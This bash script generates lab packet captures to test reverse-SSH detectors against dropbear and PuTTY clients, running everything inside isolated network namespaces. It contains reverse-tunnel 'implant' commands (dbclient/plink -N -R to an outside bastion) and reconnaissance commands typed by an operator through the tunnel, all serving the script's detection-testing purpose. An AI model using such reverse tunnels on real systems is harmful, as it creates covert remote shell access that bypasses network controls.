#!/bin/bash
# mkpcaps-clients.sh - lab captures of SSH implementations other than OpenSSH (dropbear's
# dbclient and dropbear server, PuTTY's plink), to check that the reverse-SSH detectors model
# behaviour and not OpenSSH's packet sizes.  Needs root (network namespaces) and the Debian
# packages dropbear-bin and putty-tools (plus what tools/mkpcaps.sh needs).
#
#   tools/mkpcaps-clients.sh            all captures below
#   tools/mkpcaps-clients.sh NAME ...   only these: ssh-dropbear-rshell ssh-plink-rshell
#                                       ssh-dropbear-server-login ssh-plink-login
#                                       ssh-dropbear-client-login
#
# Runs its own lab (tools/lab.sh with LAB_PREFIX=cl-, LAB_RUN=/tmp/egress-lab-cl: namespaces
# cl-train, cl-router, cl-outside) so it can run next to tools/mkpcaps.sh.  tcpdump on the
# router's outside veth (r-out).  The sshd/dropbear plumbing (private user database, hostname,
# /run and /var/log under unshare --mount --uts) is the same as tools/mkpcaps.sh's, copied here.
# Everything is torn down in a trap, killing only the PIDs started here; nothing is routed
# outside the namespaces.  Environment: OUT (default pcaps/), LAB_DELAY_MS (default 20),
# KEEP_WORK=1 (keep the work folder: typer.log, server logs), SSHD_LOGLEVEL=DEBUG3 (sshd logs
# every packet type it sends and receives, with KEEP_WORK=1: to tell what a record was).
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
TOP=$(dirname "$HERE")
OUT=${OUT:-$TOP/pcaps}
PY=/usr/bin/python3
SVC="$PY $HERE/labsvc.py"
export LAB_PREFIX=${LAB_PREFIX:-cl-}
export LAB_RUN=${LAB_RUN:-/tmp/egress-lab-cl}
NS_T=${LAB_PREFIX}train
NS_R=${LAB_PREFIX}router
NS_O=${LAB_PREFIX}outside
W=$(mktemp -d /tmp/mkpcaps-cl.XXXXXX)
chmod 755 "$W"
PIDS=()
LAB_UP=0

log() { echo "mkpcaps-clients: $*" >&2; }

cleanup() {
	local p
	for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
	sleep 0.3
	for p in "${PIDS[@]}"; do kill -9 "$p" 2>/dev/null || true; done
	[ "$LAB_UP" = 1 ] && "$HERE/lab.sh" down
	if [ -n "${KEEP_WORK:-}" ]; then log "work files kept in $W"; else rm -rf "$W"; fi
}
trap cleanup EXIT
trap 'exit 130' INT TERM

[ "$(id -u)" -eq 0 ] || { echo "mkpcaps-clients: needs root (network namespaces)" >&2; exit 1; }
for b in dbclient dropbear dropbearkey plink puttygen tcpdump; do
	command -v $b >/dev/null || { log "missing $b (apt-get install dropbear-bin putty-tools)"; exit 1; }
done
mkdir -p "$OUT"

# bg NS CMD...: run CMD in namespace NS in the background, remember its PID
bg() {
	local ns=$1; shift
	ip netns exec "$ns" "$@" &
	PIDS+=($!)
	LASTPID=$!
}

stop() { kill "$1" 2>/dev/null || true; wait "$1" 2>/dev/null || true; }

# wait_listen NS ADDR:PORT
wait_listen() {
	local i=0
	until ip netns exec "$1" ss -H -ltn "sport = :${2##*:}" | grep -q "${2%:*}:${2##*:}"; do
		i=$((i + 1)); [ $i -lt 100 ] || { log "nothing listens on $2 in $1"; exit 1; }
		sleep 0.1
	done
}

CAP_PID=
cap_start() {
	local f=$OUT/$1.pcap
	rm -f "$f"
	ip netns exec "$NS_R" tcpdump -i r-out -s 0 -U -n -Z root -w "$f" 2>"$W/tcpdump.err" &
	CAP_PID=$!
	PIDS+=($CAP_PID)
	local i=0
	until grep -q "listening on" "$W/tcpdump.err"; do
		i=$((i + 1)); [ $i -lt 50 ] || { cat "$W/tcpdump.err" >&2; exit 1; }
		sleep 0.1
	done
	sleep 0.3
	log "capturing $1"
}
cap_stop() {
	sleep 1
	stop "$CAP_PID"
	grep -v "listening on" "$W/tcpdump.err" >&2 || true
}

# ---------------------------------------------------------------- ssh plumbing (as mkpcaps.sh)
# One `user` login (uid 4242) with a home under $W, a private user database bind-mounted over
# /etc/passwd, /etc/shadow, /etc/group, a private /etc/hostname, tmpfs on /run and /var/log.
# Client keys: the OpenSSH key id_user, the same key as a PuTTY .ppk (puttygen), and a
# dropbear-format key made by dropbearkey; all three in authorized_keys.  Clients run with HOME
# in $W (dbclient and plink write nothing under the machine's own home).
SSH_READY=0
ssh_setup() {
	[ $SSH_READY = 1 ] && return
	local e=$W/etc
	mkdir -p "$e" "$W/home/user/.ssh" "$W/keys" "$W/chome"
	cp /etc/passwd "$e/passwd"; cp /etc/shadow "$e/shadow"; cp /etc/group "$e/group"
	echo "user:x:4242:4242:Lab User:$W/home/user:/bin/bash" >>"$e/passwd"
	echo "user:*:20000:0:99999:7:::" >>"$e/shadow"
	echo "user:x:4242:" >>"$e/group"
	ssh-keygen -q -t ed25519 -N '' -C user@lab -f "$W/keys/id_user"
	puttygen "$W/keys/id_user" -O private -o "$W/keys/id_user.ppk"
	dropbearkey -t ed25519 -f "$W/keys/id_user.db" >/dev/null 2>&1
	{
		cat "$W/keys/id_user.pub"
		dropbearkey -y -f "$W/keys/id_user.db" 2>/dev/null | grep '^ssh-'
	} >"$W/home/user/.ssh/authorized_keys"
	cat >"$W/home/user/.profile" <<-'EOF'
	PS1='\u@\h:\w\$ '
	export LANG=C.UTF-8
	EOF
	echo "hello from the lab" >"$W/home/user/notes.txt"
	chown -R 4242:4242 "$W/home/user"
	chmod 700 "$W/home/user/.ssh"
	chmod 600 "$W/home/user/.ssh/authorized_keys"
	SSH_READY=1
}

# sshd_conf ROLE HOSTNAME "ListenAddress lines...": host keys and $W/sshd-ROLE/sshd_config
sshd_conf() {
	local role=$1 hn=$2 listen=$3 d=$W/sshd-$1
	mkdir -p "$d"
	echo "$hn" >"$d/hostname"
	ssh-keygen -q -t ed25519 -N '' -f "$d/ssh_host_ed25519_key"
	ssh-keygen -q -t ecdsa -N '' -f "$d/ssh_host_ecdsa_key"
	{
		echo "$listen" | tr ';' '\n' | sed 's/^ *//;/^$/d;s/^/ListenAddress /'
		cat <<-EOF
		HostKey $d/ssh_host_ed25519_key
		HostKey $d/ssh_host_ecdsa_key
		PidFile $d/sshd.pid
		AuthorizedKeysFile $W/home/user/.ssh/authorized_keys
		PubkeyAuthentication yes
		PasswordAuthentication no
		KbdInteractiveAuthentication no
		UsePAM no
		StrictModes no
		PermitRootLogin no
		AllowTcpForwarding yes
		GatewayPorts no
		PrintMotd no
		PrintLastLog no
		UseDNS no
		AcceptEnv LANG LC_*
		Subsystem sftp /usr/lib/openssh/sftp-server
		LogLevel ${SSHD_LOGLEVEL:-INFO}
		EOF
	} >"$d/sshd_config"
}

# in_sshd_world DIR HOSTNAME CMD: the shell snippet that gives CMD the lab's private user
# database, hostname, /run and /var/log (run it under unshare --mount --uts)
in_sshd_world() {
	local d=$1
	echo "mount --bind $W/etc/passwd /etc/passwd &&
		mount --bind $W/etc/shadow /etc/shadow &&
		mount --bind $W/etc/group /etc/group &&
		mount --bind $d/hostname /etc/hostname &&
		mount -t tmpfs tmpfs /run && mkdir -m 755 /run/sshd &&
		mount -t tmpfs tmpfs /var/log &&
		hostname $2 &&
		exec $3"
}

# sshd_start ROLE(outside|train) HOSTNAME "ListenAddress lines..."
sshd_start() {
	local role=$1 ns d=$W/sshd-$1
	case $role in outside) ns=$NS_O ;; train) ns=$NS_T ;; esac
	sshd_conf "$@"
	bg "$ns" unshare --mount --uts /bin/sh -c \
	    "$(in_sshd_world "$d" "$2" "/usr/sbin/sshd -D -e -f $d/sshd_config")" 2>"$d/sshd.log"
	eval "SSHD_PID_$role=$LASTPID"
}

SSH_OPTS=(-F /dev/null -i "$W/keys/id_user" -o StrictHostKeyChecking=no
	-o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ServerAliveInterval=0)

# outside OpenSSH sshd "bastion" on 198.51.100.7:22 and :443
outside_sshd() {
	ssh_setup
	if [ -z "${SSHD_PID_outside:-}" ]; then
		sshd_start outside bastion "198.51.100.7:22; 198.51.100.7:443"
		wait_listen "$NS_O" 198.51.100.7:22
		wait_listen "$NS_O" 198.51.100.7:443
		# plink checks the host key against -hostkey: both of the server's fingerprints
		HOSTKEYS=()
		local k
		for k in ed25519 ecdsa; do
			HOSTKEYS+=(-hostkey "$(ssh-keygen -l -E sha256 \
			    -f "$W/sshd-outside/ssh_host_${k}_key.pub" | awk '{print $2}')")
		done
	fi
}

# the inside GPU node's own OpenSSH sshd (the target of the reverse tunnels)
train_sshd() {
	ssh_setup
	if [ -z "${SSHD_PID_train:-}" ]; then
		sshd_start train gpu-node-07 "127.0.0.1:22; 10.20.0.10:22"
		wait_listen "$NS_T" 127.0.0.1:22
	fi
}

# outside dropbear server "dropbear-box" on 198.51.100.9:22 (key auth only, no motd)
outside_dropbear() {
	ssh_setup
	if [ -z "${DROPBEAR_PID:-}" ]; then
		local d=$W/dropbear
		mkdir -p "$d"
		echo dropbear-box >"$d/hostname"
		dropbearkey -t ed25519 -f "$d/host_ed25519" >/dev/null 2>&1
		dropbearkey -t ecdsa -f "$d/host_ecdsa" >/dev/null 2>&1
		bg "$NS_O" unshare --mount --uts /bin/sh -c "$(in_sshd_world "$d" dropbear-box \
		    "dropbear -F -E -s -m -w -r $d/host_ed25519 -r $d/host_ecdsa -p 198.51.100.9:22 -P $d/dropbear.pid")" \
		    2>"$d/dropbear.log"
		DROPBEAR_PID=$LASTPID
		wait_listen "$NS_O" 198.51.100.9:22
	fi
}

# Client commands (HOME in $W: no known_hosts or PuTTY random seed under the machine's home)
DBCLIENT=(env HOME="$W/chome" dbclient -y -y -i "$W/keys/id_user.db")
PLINK=(env HOME="$W/chome" plink -ssh -batch -noagent -i "$W/keys/id_user.ppk")

# Commands the operator types in a reverse shell (as mkpcaps.sh's RSHELL_LINES)
RSHELL_LINES=(--line "id" --line "hostname" --line "uname -a" --line "ls -la ~"
	--line "cat /etc/os-release" --line "exit")
# Commands an inside user types in an ordinary login
LOGIN_LINES=(--line "uptime" --line "ls -la" --line "cat notes.txt" --line "df -h /"
	--line "whoami" --line "exit")

# rshell NAME TUNNEL_PORT SEED IMPLANT...: start IMPLANT (an -N -R TUNNEL_PORT:127.0.0.1:22
# client) in train; the operator in outside logs in back through the tunnel with OpenSSH and
# types RSHELL_LINES.
rshell() {
	local name=$1 tport=$2 seed=$3
	shift 3
	outside_sshd
	train_sshd
	cap_start "$name"
	bg "$NS_T" "$@" </dev/null 2>"$W/$name-implant.log"
	local tun=$LASTPID
	wait_listen "$NS_O" "127.0.0.1:$tport"
	sleep 1.5
	ip netns exec "$NS_O" $SVC typer --seed "$seed" "${RSHELL_LINES[@]}" -- \
	    ssh "${SSH_OPTS[@]}" -tt -p "$tport" user@127.0.0.1 2>>"$W/typer.log"
	sleep 2
	stop "$tun"
	cap_stop
}

do_dropbear_rshell() {
	outside_sshd
	rshell ssh-dropbear-rshell 2201 201 \
	    "${DBCLIENT[@]}" -N -T -R 2201:127.0.0.1:22 -p 22 user@198.51.100.7
}

do_plink_rshell() {
	outside_sshd
	rshell ssh-plink-rshell 2202 202 \
	    "${PLINK[@]}" "${HOSTKEYS[@]}" -N -R 2202:127.0.0.1:22 -P 443 user@198.51.100.7
}

# login NAME SEED CLIENT...: the inside user types LOGIN_LINES into CLIENT (in a pty)
login() {
	local name=$1 seed=$2
	shift 2
	cap_start "$name"
	ip netns exec "$NS_T" $SVC typer --seed "$seed" "${LOGIN_LINES[@]}" -- "$@" \
	    2>>"$W/typer.log"
	cap_stop
}

do_dropbear_server_login() {
	outside_dropbear
	login ssh-dropbear-server-login 203 ssh "${SSH_OPTS[@]}" -tt -p 22 user@198.51.100.9
}

do_plink_login() {
	outside_sshd
	login ssh-plink-login 204 "${PLINK[@]}" "${HOSTKEYS[@]}" -t -P 22 user@198.51.100.7
}

do_dropbear_client_login() {
	outside_sshd
	login ssh-dropbear-client-login 205 "${DBCLIENT[@]}" -t -p 22 user@198.51.100.7
}

# ---------------------------------------------------------------- main
ALL="ssh-dropbear-rshell ssh-plink-rshell ssh-dropbear-server-login ssh-plink-login
ssh-dropbear-client-login"
WANT=${*:-$ALL}

need_lab() {
	[ $LAB_UP = 1 ] && return
	"$HERE/lab.sh" down 2>/dev/null || true
	LAB_UP=1
	"$HERE/lab.sh" up
}

for n in $WANT; do
	case $n in
	ssh-dropbear-rshell) need_lab; do_dropbear_rshell ;;
	ssh-plink-rshell) need_lab; do_plink_rshell ;;
	ssh-dropbear-server-login) need_lab; do_dropbear_server_login ;;
	ssh-plink-login) need_lab; do_plink_login ;;
	ssh-dropbear-client-login) need_lab; do_dropbear_client_login ;;
	*) log "unknown capture: $n"; exit 2 ;;
	esac
done
log "done"
